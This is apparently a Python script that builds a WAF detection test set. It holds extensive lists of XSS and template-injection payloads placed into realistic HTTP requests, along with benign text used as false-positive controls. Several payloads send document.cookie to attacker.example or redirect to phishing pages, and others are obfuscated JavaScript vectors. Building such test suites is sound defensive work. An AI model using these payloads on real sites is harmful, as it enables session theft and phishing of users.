    "<object data=\"javascript:alert(1)\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://attacker.example/scriptlet.html\"></OBJECT>",
    "<object classid=\"clsid:ae24fdae-03c6-11d1-8b76-0080c744f389\"><param name=url value=javascript:alert('XSS')>"
    "</object>",
    "<object codetype=\"application/x-shockwave-flash\" data=\"//attacker.example/x.swf\">",
    "<object code=\"x.class\">",
    "<object/data=//attacker.example/x.svg>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<ObJeCt TyPe = \"image/svg+xml\" data = \"x.svg\">",
    url("%3Cobject%20data%3D%22%2F%2Fattacker.example%2Fx.html%22%3E"),
    jsn("\\u003cobject data=\\\"javascript:alert(1)\\\"\\u003e"),
]

HTML_TAG_HANDLER: list[Entry] = [
    "<h1>This site has moved</h1><a href=//attacker.example>continue here</a>",
    "<div style=\"position:absolute;top:0;left:0\">Please sign in again</div>",
    "<iframe src=//attacker.example width=100% height=100%></iframe>",
    "<form action=//attacker.example><input name=u><input name=p type=password></form>",
    "<table><tr><td>injected</td></tr></table>",
    "</textarea><img src=x>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<body bgcolor=red>",
    "<bgsound src=//attacker.example/x.mid>",
    "<font color=red size=7>HACKED</font>",
    "<isindex prompt=\"Enter your PIN:\">",
    "<keygen autofocus onfocus=alert(1)>",
    url("%3Ch1%3EThis%20site%20has%20moved%3C%2Fh1%3E"),
    jsn("\\u003cdiv\\u003e\\u003ca href=//attacker.example\\u003eClaim your prize\\u003c/a\\u003e\\u003c/div\\u003e"),
]

IE_QUOTE_PROPERTY: list[Entry] = [
    "\";location='javascript:alert(1)';//",
    "';document.location='//attacker.example/'+document.cookie;//",
    "\"+(location='//attacker.example')+\"",
    "');name='alert(1)';eval(name);//",
    "\";onerror=alert;throw 1;//",
    "'};window.onerror=alert;throw 1//",
    "\";x={};x.valueOf=alert;x+1;//",
    "\" in top&&(top.location='//attacker.example')//",
    "\\\";location.href='//attacker.example';//",
    "\"; \\u006Cocation='//attacker.example';//",
    url("%22%3Blocation%3D%27%2F%2Fattacker.example%27%3B%2F%2F"),
    jsn("\\\";location='javascript:alert(1)';//"),
]

IE_QUOTE_MEMBER: list[Entry] = [
    "\";document.body.innerHTML='<img src=x onerror=alert(1)>';//",
    "';window.location.href='//attacker.example';//",
    "\"+top.document.title=\"Hacked\"+\"",
    "');document.forms[0].action='//attacker.example/collect';//",
    "\";self.location.hash=\"x\";//",
    "'-(document.domain='example.com')-'",
    "\";new Image().src=\"//attacker.example/?c=\"+document.cookie;//",
    "\"];window.opener.location=\"//attacker.example\";//",
    "\";document.cookie=\"admin=true\";//",
    url("%27%3Bdocument.location.href%3D%27%2F%2Fattacker.example%27%3B%2F%2F"),
    jsn("\\\";document.cookie=\\\"a=1\\\";//"),
]

US_ASCII: list[Entry] = [
    "\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be",
    url("%BCscript%BEalert(%A2XSS%A2)%BC/script%BE"),
    url("%C2%BCscript%C2%BEalert(1)%C2%BC/script%C2%BE"),
    "\u00bcimg src=x onerror=alert(1)\u00be",
    "\u00bcsvg onload=alert(1)\u00be",
    url("%BCimg%20src%3Dx%20onerror%3Dalert(1)%BE"),
    "\u00bciframe src=javascript:alert(1)\u00be",
    jsn("\\u00bcscript\\u00bealert(1)\\u00bc/script\\u00be"),
    url("%25BCscript%25BEalert(1)%25BC%2Fscript%25BE"),
    "\u00bcbody onload=alert(1)\u00be",
]

UTF7: list[Entry] = [
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "+ADw-img src+AD0-x onerror+AD0-alert(1)+AD4-",
    "+ADw-svg onload+AD0-alert(document.domain)+AD4-",
    "+ACIAPgA8-script+AD4-alert(1)+ADw-/script+AD4-",
    "+ADw-iframe src+AD0AIg-javascript:alert(1)+ACIAPg-",
    "+ADw-SCRIPT+AD4-alert('XSS')+ADsAPA-/SCRIPT+AD4-",
    "<meta charset=\"utf-7\">+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "+ADw-a href+AD0AIg-javascript:alert(1)+ACIAPg-x+ADw-/a+AD4-",
    "+ADw-body onload+AD0-alert(1)+AD4-",
    url("%2BADw-script%2BAD4-alert(1)%2BADw-%2Fscript%2BAD4-"),
    jsn("+ADw-script+AD4-alert(1)+ADw-\\/script+AD4-"),
]

JSFUCK: list[Entry] = [
    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
    "(![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]",
    "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[!+[]+!+[]+!+[]]"
    "+(!![]+[])[+!+[]]]",
    "!+[]+!+[]+!+[]",
    "(+[![]]+[])[+!+[]]",
    "(!![]+[])[+[]]+(!![]+[])[+!+[]]+(!![]+[])[!+[]+!+[]]",
    "[+!+[]]+[+[]]",
    "({}+[])[!+[]+!+[]+!+[]+!+[]+!+[]]",
    "(![]+{})[+!![]]+({}+[])[+!![]]",
    "<img src=x onerror=\"[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]][([][[]]+[])[+!+[]]]\">",
    "$=~[];$={___:++$,$$$$:(![]+\"\")[$],__$:++$,$_$_:(![]+\"\")[$],_$_:++$};",
    url("%5B%5D%5B(!%5B%5D%2B%5B%5D)%5B%2B%5B%5D%5D%2B(!%5B%5D%2B%5B%5D)%5B!%2B%5B%5D%2B!%2B%5B%5D%5D%5D"),
]

JS_GLOBAL: list[Entry] = [
    "window[\"alert\"](1)",
    "self['al'+'ert'](document.domain)",
    "top[/al/.source+/ert/.source](1)",
    "this['document']['cookie']",
    "parent[\"eval\"](\"alert(1)\")",
    "globalThis['fetch']('//attacker.example/?'+document.cookie)",
    "frames['alert'](1)",
    "window /**/ [ \"alert\" ] (1)",
    "document['location']='//attacker.example'",
    "window[atob('YWxlcnQ=')](1)",
    r'self["\x61\x6c\x65\x72\x74"](1)',
    "top['eval'](name)",
    url("window%5B%22alert%22%5D(1)"),
    jsn("window[\\\"al\\\"+\\\"ert\\\"](1)"),
]

ANGULAR: list[Entry] = [
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    "{{$eval.constructor('alert(document.cookie)')()}}",
    "{{[].pop.constructor('alert(1)')()}}",
    "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
    "[\"a\",\"alert(1)\"].sort(toString.constructor)}}",
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    "{{ constructor.constructor ( 'alert(1)' ) ( ) }}",
    "<div ng-app ng-csp><input autofocus ng-focus=$event.path|orderBy:'[].constructor.from([1],alert)'>",
    "{{7*7}}",
    "{{$new.constructor('alert(1)')()}}",
    url("%7B%7Bconstructor.constructor(%27alert(1)%27)()%7D%7D"),
    url("%257B%257B%2524on.constructor(%2527alert(1)%2527)()%257D%257D"),
    jsn("{{constructor.constructor(\\\"alert(1)\\\")()}}"),
]

JS_METHOD: list[Entry] = [
    "alert(1)",
    "eval('ale'+'rt(1)')",
    "setTimeout('alert(1)',100)",
    "setInterval(\"fetch('//attacker.example/'+document.cookie)\",5000)",
    "new Function('alert(document.domain)')()",
    "atob('YWxlcnQoMSk=')",
    "btoa(document.cookie)",
    "prompt('Session expired, re-enter your token')",
    "confirm(document.domain)",
    "eval (location.hash.slice(1))",
    "top.alert/**/(1)",
    url("%65val%28atob%28%27YWxlcnQoMSk%3D%27%29%29"),
    jsn("\\u0065val(\\\"alert(1)\\\")"),
]

JS_NO_PARENS: list[Entry] = [
    "alert`1`",
    "onerror=alert;throw 1",
    "setTimeout`alert\\x281\\x29`",
    "[].map.call`${eval}\\x61lert\\x281\\x29`",
    "Function`alert\\x60document.domain\\x60```",
    "throw onerror=eval,'=alert\\x281\\x29'",
    "location='javascript:alert\\x281\\x29'",
    "eval.call`${'alert\\x281\\x29'}`",
    "<svg onload=alert`1`>",
    "x=alert,x`XSS`",
    "top['al'+'ert']`1`",
    url("alert%601%60"),
    jsn("alert\\u00601\\u0060"),
]

# (category, sub, real placements, regression-suite placements, payloads); empty placements mean the rotation
SUBS: list[tuple[str, str, list[str], list[str], list[Entry]]] = [
    ("php", "php-open-tag", [], [], PHP_OPEN_TAG),
    ("php", "php-script-file-upload", ["multipart-filename", "header:X-File-Name"],
     ["rs-multipart-filename", "rs-header:X-Filename"], PHP_UPLOAD),
    ("php", "php-configuration-directive", [], [], PHP_INI),
    ("php", "php-variables", [], [], PHP_VARIABLES),
    ("php", "php-io-stream", [], [], PHP_IO_STREAM),
    ("php", "php-wrapper-scheme", [], [], PHP_WRAPPER),
    ("php", "php-high-risk-function-name", [], [], PHP_FUNC_NAME),
    ("php", "php-high-risk-function-call", [], [], PHP_FUNC_CALL),
    ("php", "php-serialized-object-injection", [], [], PHP_SERIALIZED),
    ("php", "php-variable-function-call", [], [], PHP_VAR_FUNC),
    ("php", "php-variable-function-call-string", [], [], PHP_VAR_FUNC_STRING),
    ("php", "php-medium-risk-function-name", [], [], PHP_MEDIUM),
    ("xss", "xss-libinjection", [], [], XSS_LIBINJECTION),
    ("xss", "xss-libinjection-path-referer", ["path", "header:Referer"], ["rs-referer", "rs-path"],
     XSS_LIBINJECTION_PL2),
    ("xss", "script-tag-vector", [], [], SCRIPT_TAG),
    ("xss", "event-handler-vector", [], [], EVENT_HANDLER),
    ("xss", "attribute-vector", [], [], ATTRIBUTE_VECTOR),
    ("xss", "javascript-uri-vector", [], [], JAVASCRIPT_URI),
    ("xss", "disallowed-html-attributes", [], [], DISALLOWED_ATTRS),
    ("xss", "noscript-html-injection", [], [], NOSCRIPT_HTML),
    ("xss", "noscript-attribute-injection", [], [], NOSCRIPT_ATTR),
    ("xss", "node-validator-blacklist", [], [], NODE_VALIDATOR),
    ("xss", "ie-xss-style", [], [], IE_STYLE),
    ("xss", "ie-xss-vmlframe", [], [], IE_VMLFRAME),
    ("xss", "ie-xss-obfuscated-javascript", [], [], IE_OBF_JAVASCRIPT),
    ("xss", "ie-xss-obfuscated-vbscript", [], [], IE_OBF_VBSCRIPT),
    ("xss", "ie-xss-embed", [], [], IE_EMBED),
    ("xss", "ie-xss-import", [], [], IE_IMPORT),
    ("xss", "ie-xss-meta-http-equiv", [], [], IE_META),
    ("xss", "ie-xss-meta-charset", [], [], IE_META_CHARSET),
    ("xss", "ie-xss-link", [], [], IE_LINK),
    ("xss", "ie-xss-base", [], [], IE_BASE),
    ("xss", "ie-xss-applet", [], [], IE_APPLET),
    ("xss", "ie-xss-object", [], [], IE_OBJECT),
    ("xss", "html-tag-handler", [], [], HTML_TAG_HANDLER),
    ("xss", "ie-xss-quote-property", [], [], IE_QUOTE_PROPERTY),
    ("xss", "ie-xss-quote-member-assignment", [], [], IE_QUOTE_MEMBER),
    ("xss", "us-ascii-malformed-encoding", [], [], US_ASCII),
    ("xss", "utf7-encoding", [], [], UTF7),
    ("xss", "jsfuck-hieroglyphy", [], [], JSFUCK),
    ("xss", "javascript-global-variable", [], [], JS_GLOBAL),
    ("xss", "angularjs-template-injection", [], [], ANGULAR),
    ("xss", "javascript-method", [], [], JS_METHOD),
    ("xss", "javascript-function-without-parentheses", [], [], JS_NO_PARENS),
]

REAL = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X", "param-name", "xml",
        "multipart-field", "multipart-filename", "path"]
RS = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-ua", "rs-referer", "rs-header", "rs-cookie"]
URL_OK = {"query", "form", "param-name", "path", "cookie", "header:Referer",
          "rs-query", "rs-form", "rs-raw-body", "rs-cookie", "rs-referer", "rs-path"}
HEADERISH = {"header:User-Agent", "header:Referer", "header:X", "header:X-File-Name", "rs-ua", "rs-referer",
             "rs-header", "rs-header:X-Filename", "multipart-filename", "rs-multipart-filename"}

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 "
    "Safari/537.36 Edg/125.0.2535.92",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1",
]
LANGS = ["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "fr-FR,fr;q=0.9,en-US;q=0.7", "en-GB,en;q=0.9",
         "es-ES,es;q=0.9"]
RS_UA = "OWASP CRS test agent"
RS_GET = ["/", "/index.php", "/get", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_POST = ["/post", "/", "/index.php", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_PARAMS = ["foo", "var", "x", "test", "id", "arg1"]
X_HEADERS = ["X-Api-Version", "X-Client-Name", "X-Device-Name", "X-Timezone"]
RS_HEADERS = ["X-Custom-Header", "X-Test", "Foo", "X-Payload"]
JSON_FIELDS = ["name", "bio", "title", "department", "display_name", "location"]
COOKIE_NAMES = ["prefs", "last_search", "theme", "lang", "recent"]
PLACEHOLDER = "@@PAYLOAD@@"


def _printable(s: str) -> bool:
    return all(" " <= c <= "~" for c in s)


def _fits(place: str, enc: str, p: str) -> bool:
    if enc == "json":
        return place in ("json", "rs-json")
    if place in HEADERISH and not _printable(p):
        return False
    if place in ("multipart-filename", "rs-multipart-filename") and '"' in p:
        return False
    if enc == "url":
        return place in URL_OK
    return True


class Builder:
    """Requests of the set, drawing tokens and choices from one seeded random."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)

    def pick(self, seq: list[str]) -> str:
        return self.rng.choice(seq)

    def token(self, n: int = 24) -> str:
        alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
        return "".join(self.rng.choice(alphabet) for _ in range(n))

    def browser(self, accept: str, dest: str = "empty") -> dict[str, str]:
        return {"User-Agent": self.pick(BROWSER_UAS), "Accept": accept, "Accept-Language": self.pick(LANGS),
                "Accept-Encoding": "gzip, deflate, br, zstd",
                "Referer": self.pick(["https://app.example.com/admin/users", "https://app.example.com/dashboard",
                                      "https://app.example.com/people?tab=all"]),
                "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "navigate" if dest == "document" else "cors",
                "Sec-Fetch-Dest": dest,
                "Cookie": f"session={self.token(32)}; cookie_consent=accepted"}

    # encodings
    @staticmethod
    def q(p: str, enc: str) -> str:
        return p if enc == "url" else urllib.parse.quote(p, safe="")

    @staticmethod
    def f(p: str, enc: str) -> str:
        return p if enc == "url" else urllib.parse.quote_plus(p, safe="")

    @staticmethod
    def j(p: str, enc: str) -> str:
        return p if enc == "json" else json.dumps(p, ensure_ascii=False)[1:-1]

    @staticmethod
    def cookie(p: str, enc: str) -> str:
        if enc == "url" or (_printable(p) and ";" not in p and "," not in p and '"' not in p and "\\" not in p):
            return p
        return urllib.parse.quote(p, safe="")

    def xml_text(self, p: str) -> str:
        if self.rng.random() < 0.5 and "]]>" not in p:
            return f"<![CDATA[{p}]]>"
        return html.escape(p, quote=False)

    def json_body(self, doc: dict[str, Any], p: str, enc: str) -> str:
        text = json.dumps(doc, ensure_ascii=False)
        return text.replace(json.dumps(PLACEHOLDER), '"' + self.j(p, enc) + '"')

    def multipart(self, fields: list[tuple[str, str]], file_field: str, filename: str, ctype: str,
                  content: str) -> tuple[str, str]:
        boundary = "----WebKitFormBoundary" + self.token(16)
        parts = [f'--{boundary}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n' for k, v in fields]
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{file_field}"; filename="{filename}"\r\n'
                     f"Content-Type: {ctype}\r\n\r\n{content}\r\n")
        return "".join(parts) + f"--{boundary}--\r\n", f"multipart/form-data; boundary={boundary}"

    # our real routes
    def real(self, place: str, p: str, enc: str) -> dict[str, Any]:
        rng = self.rng
        if place in ("query", "param-name"):
            params = [f"page={rng.randint(1, 9)}", f"per_page={self.pick(['20', '50', '100'])}"]
            params.insert(rng.randint(0, 2), f"q={self.q(p, enc)}" if place == "query" else f"{self.q(p, enc)}=1")
            return {"method": "GET", "uri": "/api/users?" + "&".join(params), "body": "",
                    "headers": self.browser("application/json")}
        if place == "form":
            if rng.random() < 0.15:
                uri, body = "/me/settings", f"csrf_token={self.token()}&display_name={self.f(p, enc)}&lang=en"
            else:
                uri, body = "/admin/users/search", f"csrf_token={self.token()}&q={self.f(p, enc)}"
            return {"method": "POST", "uri": uri, "body": body,
                    "headers": {**self.browser("text/html,application/xhtml+xml", "document"),
                                "Content-Type": "application/x-www-form-urlencoded",
                                "Origin": "https://app.example.com"}}
        if place == "json":
            field = self.pick(JSON_FIELDS)
            doc: dict[str, Any] = {"name": "Dana Whitfield", "email": "dana.whitfield@example.com",
                                   "department": "Finance", field: PLACEHOLDER}
            method, uri = ("PATCH", "/api/users/42") if rng.random() < 0.2 else ("POST", "/api/users")
            return {"method": method, "uri": uri, "body": self.json_body(doc, p, enc),
                    "headers": {**self.browser("application/json"), "Content-Type": "application/json"}}
        if place == "cookie":
            h = self.browser("application/json")
            h["Cookie"] += f"; {self.pick(COOKIE_NAMES)}={self.cookie(p, enc)}"
            return {"method": "GET", "uri": f"/api/users?page={rng.randint(1, 5)}", "body": "", "headers": h}
        if place.startswith("header:") and place != "header:X-File-Name":
            h = self.browser("application/json")
            name = self.pick(X_HEADERS) if place == "header:X" else place.split(":", 1)[1]
            h[name] = p
            return {"method": "GET", "uri": "/api/users?page=1&per_page=20", "body": "", "headers": h}
        if place == "xml":
            body = ('<?xml version="1.0" encoding="UTF-8"?>\n<user><name>Dana Whitfield</name>'
                    f"<department>Finance</department><bio>{self.xml_text(p)}</bio></user>")
            return {"method": "POST", "uri": "/api/users", "body": body,
                    "headers": {**self.browser("application/xml"), "Content-Type": "application/xml"}}
        if place in ("multipart-field", "multipart-filename"):
            fields = [("csrf_token", self.token())]
            if place == "multipart-field":
                fields.append(("display_name", p))
                fname = "me.png"
            else:
                fname = p
            body, ctype = self.multipart(fields, "avatar", fname, "image/png", "GIF89a placeholder image bytes")
            return {"method": "POST", "uri": "/api/users/42/avatar", "body": body,
                    "headers": {**self.browser("application/json"), "Content-Type": ctype}}
        if place == "header:X-File-Name":
            return {"method": "POST", "uri": "/api/users/42/avatar?qqfile=upload", "body": "GIF89a placeholder",
                    "headers": {**self.browser("application/json"), "Content-Type": "application/octet-stream",
                                "X-File-Name": p, "X-Requested-With": "XMLHttpRequest"}}
        # path
        seg = p if enc == "url" else urllib.parse.quote(p, safe="")
        uri = self.pick(["/api/users/", "/api/"]) + seg
        return {"method": "GET", "uri": uri, "body": "", "headers": self.browser("application/json")}

    # the way a WAF regression suite sends a payload
    def rs(self, place: str, p: str, enc: str) -> dict[str, Any]:
        param = self.pick(RS_PARAMS)
        h: dict[str, str] = {"User-Agent": RS_UA, "Accept": "*/*"}
        if place == "rs-query":
            return {"method": "GET", "uri": f"{self.pick(RS_GET)}?{param}={self.q(p, enc)}", "body": "",
                    "headers": h}
        if place == "rs-form":
            return {"method": "POST", "uri": self.pick(RS_POST), "body": f"{param}={self.f(p, enc)}",
                    "headers": {**h, "Content-Type": "application/x-www-form-urlencoded"}}
        if place == "rs-json":
            return {"method": "POST", "uri": self.pick(RS_POST), "body": self.json_body({param: PLACEHOLDER}, p, enc),
                    "headers": {**h, "Content-Type": "application/json"}}
        if place == "rs-xml":
            body = f'<?xml version="1.0"?><root><{param}>{self.xml_text(p)}</{param}></root>'
            return {"method": "POST", "uri": self.pick(RS_POST), "body": body,
                    "headers": {**h, "Content-Type": "text/xml"}}
        if place == "rs-raw-body":
            return {"method": "POST", "uri": self.pick(RS_POST), "body": p,
                    "headers": {**h, "Content-Type": "application/x-www-form-urlencoded"}}
        if place == "rs-cookie":
            return {"method": "GET", "uri": self.pick(RS_GET), "body": "",
                    "headers": {**h, "Cookie": f"{param}={self.cookie(p, enc)}"}}
        if place == "rs-multipart-filename":
            body, ctype = self.multipart([], "file", p, "application/octet-stream", "GIF89a placeholder")
            return {"method": "POST", "uri": self.pick(RS_POST), "body": body, "headers": {**h, "Content-Type": ctype}}
        if place == "rs-header:X-Filename":
            return {"method": "POST", "uri": self.pick(RS_POST), "body": "GIF89a placeholder",
                    "headers": {**h, "Content-Type": "application/octet-stream", "X-Filename": p}}
        if place == "rs-path":
            seg = p if enc == "url" else urllib.parse.quote(p, safe="")
            return {"method": "GET", "uri": self.pick(["/index.php/", "/search/", "/"]) + seg, "body": "",
                    "headers": h}
        name = {"rs-ua": "User-Agent", "rs-referer": "Referer"}.get(place) or self.pick(RS_HEADERS)
        return {"method": "GET", "uri": self.pick(RS_GET), "body": "", "headers": {**h, name: p}}


def _choose(options: list[str], start: int, enc: str, p: str) -> str:
    for k in range(len(options)):
        place = options[(start + k) % len(options)]
        if _fits(place, enc, p):
            return place
    raise ValueError(f"no placement fits {p!r}")


def attacks() -> Iterator[dict[str, Any]]:
    b = Builder(7808)
    n = 0
    turn = 0
    for category, sub, real_places, rs_places, payloads in SUBS:
        for i, entry in enumerate(payloads):
            enc, p = ("plain", entry) if isinstance(entry, str) else entry
            real_place = _choose(real_places or REAL, (i if real_places else turn), enc, p)
            rs_place = _choose(rs_places or RS, (i if rs_places else turn * 5 + 3), enc, p)
            turn += 1
            for place, rec in ((real_place, b.real(real_place, p, enc)), (rs_place, b.rs(rs_place, p, enc))):
                n += 1
                label = place
                if place == "header:X":
                    label = "header:" + next(k for k in rec["headers"] if k in X_HEADERS)
                elif place == "rs-header":
                    label = "rs-header:" + next(k for k in rec["headers"] if k in RS_HEADERS)
                yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                       "placement": label, "payload": p}


# ---------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently.

DEV_CHAT = [
    "anyone else seeing <?php show up raw on the staging page? looks like the php-fpm socket is down",
    "reminder: never echo $_GET straight into a template, run it through htmlspecialchars first",
    "the legacy upload form used to accept .php files, that's fixed in 4.2",
    "php://input is how the webhook handler reads the raw body, docs updated",
    "we set allow_url_fopen off in php.ini on the old box and nothing broke",
    "serialize() vs json_encode for the cache: going with JSON, unserialize on user data is a no-go",
    "the phar extension is disabled in prod, composer still works locally",
    "who owns the eval() call in reports.js? the linter is complaining",
    "setTimeout with a string argument is banned by our eslint config now",
    "the onload handler on the hero image is gone, we use loading=lazy instead",
    "fixed the bug where the onerror fallback image looped forever",
    "document.cookie isn't readable anymore since we set HttpOnly, that was the point",
    "window.location redirects in the SPA moved to the router",
    "the alert() in the checkout flow was a leftover debug statement, removed",
    "Angular templates use {{ user.name }} interpolation and the sanitizer handles the rest",
    "we removed innerHTML from the comments widget, textContent everywhere now",
    "the CSP report shows a blocked inline script from a browser extension, ignore it",
    "iframe embeds for the video player need the youtube-nocookie domain",
    "can someone review the script tag ordering in base.html?",
    "the <base href> in index.html must match the deploy path or the router breaks",
    "XSS training is on Thursday, bring questions about the template engine",
    "the meta charset tag should be the first thing in the head",
    "link rel=preload for the fonts cut LCP by 200ms",
    "javascript: URLs are stripped by the markdown renderer, confirmed in the test suite",
    "base64 images in the emails make them huge, switch to hosted PNGs",
    "the object storage bucket for avatars is private now",
    "we still have an applet reference in the 2009 docs, someone archive that page",
    "the embed code for the status page widget is in Notion",
    "system() calls in the deploy script were replaced with subprocess.run",
    "exec summary for Q3 is in the drive, section 2 covers the PHP upgrade",
    "passthru mode on the proxy is only for the health checks",
    "proc_open shows up in phpinfo because the extension is enabled, fine for now",
    "the $GLOBALS cleanup PR removes the last global state from the billing module",
    "config directives like memory_limit live in the pool config, not in .htaccess",
    "upload limit is 10 MB; bigger files go to the S3 presigned URL",
    "the prompt for the new onboarding survey is ready for review",
    "confirm dialog wording: 'Delete this project?' sounds fine to me",
    "top of the page banner says maintenance window Saturday 02:00 UTC",
    "self-service password reset is live for all tenants",
    "parent company name changed, update the footer please",
    "the frames in the old admin UI are gone, it's a single page now",
    "cookie banner text needs a German translation",
    "the template variable {{ invoice.total }} renders empty when the currency is missing",
    "jsfuck came up in the security talk, wild stuff made only of brackets and plus signs",
    "utf-7 is not a charset we support, everything is UTF-8",
    "the style guide says no inline style attributes, use classes",
    "background image on the login page is 2 MB, please compress it",
    "dynamic imports cut the bundle by 30 percent",
    "the vbscript macros in the finance spreadsheet need to be rewritten",
    "the VML charts from the old IE days are finally deleted",
    "PHP 8.3 upgrade checklist: check deprecated dynamic properties first",
    "data: URIs for icons are fine in CSS, webpack inlines anything under 4 KB",
    "moz-binding was removed from Firefox ages ago, drop it from the reset stylesheet",
    "the XML import accepts CDATA sections for descriptions",
    "the comments field strips HTML comment markers now",
    "we log the User-Agent and Referer for analytics only, 30 days retention",
    "hey team, the staging db is back up",
    "lunch order closes at 11:30, tacos today",
    "happy birthday Priya!",
    "can someone approve my PTO for next Friday?",
    "the printer on floor 3 is jammed again",
    "QBR deck draft is ready, comments welcome",
    "I'll be late to standup, dentist appointment",
    "new hire onboarding: Marta starts Monday in support",
    "the coffee machine got fixed, rejoice",
    "the on-call rotation for December is posted",
    "release 5.14 notes: faster search, dark mode fixes",
    "window cleaning crew comes Tuesday, move your plants",
    "the Document Control team moved to the 5th floor",
    "call_user_func is still used by the plugin loader, we'll refactor it in Q2",
    "getenv() reads the DB host from the container env, nothing hardcoded",
    "the import/export page supports CSV and XLSX",
    "use the Object.freeze trick for the constants module",
]

SEARCHES = [
    "O'Brien", "Zoë Saldaña", "José Álvarez", "Chloé Dubois", "Nguyễn Văn An", "Søren Kjær", "D'Angelo Russell",
    "Mary-Jane Watson", "php developer", "javascript engineer", "system administrator", "script supervisor",
    "document controller", "window installer", "embedded systems", "object storage", "link building",
    "style editor", "base pay", "template designer", "angular", "frontend", "top performers", "parent portal",
    "cookie policy", "prompt engineer", "alert manager", "eval team", "applet", "meta ads", "import export",
    "data analyst", "self storage", "frame shop", "marquee events", "vb developer", "UTF-8", "C# / .NET", "R&D",
    "sales & marketing", "50% done", "100+ users", "first.last@example.com", "+1 (555) 010-2233", "ACME, Inc.",
    "team: platform", "location: Berlin", "Q3 2024", "Élodie", "Łukasz", "Ömer Çelik", "Björn", "García-López",
    "McDonald", "van der Berg", "St. John", "executive assistant", "shell company formation", "passthrough billing",
    "phone: 030 1234567",
    "Renée Zellweger", "Ahmed Al-Farsi", "Jean-Luc Picard", "Anne-Marie O'Sullivan", "Hiroshi Yamamoto",
    "Ingrid Bergman", "Dvořák", "Ørsted", "Pérez & Co", "script", "alert", "cookie", "window", "document",
    "top", "self", "parent", "frame", "embed", "object", "style", "base", "link", "meta", "import", "eval",
    "system", "exec", "shell", "input", "filter", "data", "expect", "glob", "zip", "phar", "applet",
    "constructor", "template", "onboarding", "java script course", "php 8", "angularjs 1.8 migration",
]

PROSE = [
    "Please update the billing address for the Hamburg office before the next invoice run.",
    "Customer asked why the alert emails arrive twice; ticket forwarded to the platform team.",
    "Marked as duplicate of the earlier request about the document upload limit.",
    "The new employee handbook explains the cookie policy and the remote work rules.",
    "System maintenance is scheduled for Sunday night; expect short outages.",
    "He prefers to be contacted by phone, not by email, between 9 and 5.",
    "Moved the user to the Finance group after the reorganisation (see HR note).",
    "Follow up: confirm the contract renewal with the parent company's legal team.",
    "Top priority this week: onboarding for the embedded systems team.",
    "Requested a new window seat and a standing desk; approved by facilities.",
    "The script for the quarterly video is ready for the voice-over.",
    "Her title changed from Analyst to Senior Analyst on 1 March.",
    "Account locked after five failed attempts; unlocked after identity check.",
    "Asked for an export of all projects with status 'on hold' or 'cancelled'.",
    "She runs the PHP meetup and the JavaScript user group in Leeds.",
    "Evaluation period ends on the 30th; the trial can be extended once.",
    "Invoice #4471 was paid twice; refund approved by finance.",
    "Added a note: prefers the name 'Sam' in all correspondence.",
    "The object of the meeting was to agree on the frame contract.",
    "Link to the signed NDA is in the contract folder.",
    "Style and tone of the newsletter should match the brand guide.",
    "Base salary review happens in April; bonuses in June.",
    "Please prompt the manager to approve the travel request.",
    "Confirm the headcount for the offsite by Friday.",
    "The self-assessment form is due at the end of the month.",
    "Data import from the old CRM finished with 12 warnings.",
    "The applet-based timesheet tool was retired in 2015.",
    "Template for the welcome email was updated with the new logo.",
    "Meta: this note replaces the one from last week.",
    "Marquee customer: treat support tickets with priority.",
    "Event schedule: keynote at 10:00, workshops from 13:30.",
    "Parent-teacher night volunteers list is attached.",
    "The document was signed electronically on 2024-05-02.",
    "He said the cookie jar in the kitchen is empty again.",
    "Replace the broken link on the careers page.",
    "Location changed from Lisbon to Porto; update payroll.",
    "The top floor is closed for renovation until June.",
    "Shell Oil card expenses need a receipt.",
    "Please execute the contract amendment before the 15th.",
    "Our system of record for employees is the HR platform.",
    "Window of opportunity for the migration is the first week of July.",
    "I'd like to import my contacts from the old phone.",
    "Call scheduled with Dr. Müller at 14:00 CET.",
    "VAT ID: DE123456789, company: Müller & Söhne GmbH",
    "Status: awaiting reply from the customer (3 days).",
